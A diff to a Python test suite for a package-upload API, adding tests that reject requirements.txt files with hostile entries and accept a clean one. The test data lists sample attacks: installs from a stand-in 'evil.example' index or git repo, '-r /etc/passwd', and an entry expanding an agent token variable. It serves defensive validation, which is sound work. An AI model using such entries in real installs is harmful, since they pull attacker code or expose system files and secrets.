@@ -15,6 +15,8 @@ from fastapi import FastAPI
 from httpx import AsyncClient, Response
 from starlette.types import Message
 
+from shared.enums import ReasonCode
+from shared.requirements import RequirementRefused, check_requirements_file
 from tests.api.conftest import DatabaseDump
 from tests.api.packages_kit import (
     PARAMETERS,
@@ -477,3 +479,54 @@ async def test_an_upload_holds_no_database_connection_while_its_body_streams(
     assert ok(listed)["items"][0]["latest_version"] == "1.0"
     release.set()
     assert ok(await upload, 201)["version"] == "2.0"
+
+
+# -- requirements.txt: the agent's policy, applied at upload ---------------------------------------------
+
+# What the agent would refuse to install (`shared.requirements`), each in a package otherwise valid.
+HOSTILE_REQUIREMENTS: dict[str, str | bytes] = {
+    "editable": "numpy\n-e .\n",
+    "index-url": "--index-url https://evil.example/simple\nnumpy\n",
+    "extra-index-url": "numpy\n--extra-index-url=https://evil.example/simple\n",
+    "direct-url": "numpy @ https://evil.example/numpy.whl\n",
+    "vcs": "git+https://evil.example/x.git\n",
+    "local-path": "../sibling\n",
+    "archive": "evil-1.0.tar.gz\n",
+    "other-file": "-r /etc/passwd\n",
+    "environment": "numpy==${TRAINYARD_AGENT_TOKEN}\n",
+    "no-binary": "--no-binary :all:\nnumpy\n",
+    "continued": "numpy \\\n  --index-url https://evil.example\n",
+    "not-utf8": b"numpy\n\xff\xfe\n",
+    "too-large": "numpy\n" + "# padding\n" * 30_000,
+}
+
+
+@pytest.mark.parametrize("content", HOSTILE_REQUIREMENTS.values(), ids=HOSTILE_REQUIREMENTS.keys())
+async def test_a_requirements_file_the_agent_would_refuse_is_refused_at_upload(
+    client: AsyncClient, app: FastAPI, dump_database: Dump, project: str, content: str | bytes
+) -> None:
+    raw = content.encode() if isinstance(content, str) else content
+    with pytest.raises(RequirementRefused) as refused:  # what a run of this package would end with
+        check_requirements_file(raw)
+    for prefix in ("", "pkg/"):  # at the root, or in the zip's single top-level folder
+        package = zip_bytes(valid_package() | {"requirements.txt": content}, prefix=prefix)
+        body = await assert_leaves_nothing(
+            app,
+            dump_database,
+            lambda p=package: upload_package(client, project, "digits", p),
+            422,
+            ReasonCode.INVALID_PACKAGE.value,
+        )
+        assert body["field"] == "file"
+        assert body["detail"] == f"the package cannot run: {refused.value}"
+
+
+async def test_a_requirements_file_the_agent_would_install_is_accepted(
+    client: AsyncClient, project: str
+) -> None:
+    requirements = (
+        "# what the package needs\nnumpy>=1.24\nscikit-learn[alldeps] >= 1.3, <2 ; python_version >= '3.8'\n"
+        "--prefer-binary\n"
+    )
+    package = zip_bytes(valid_package() | {"requirements.txt": requirements})
+    assert ok(await upload_package(client, project, "digits", package), 201)["has_requirements"] is True
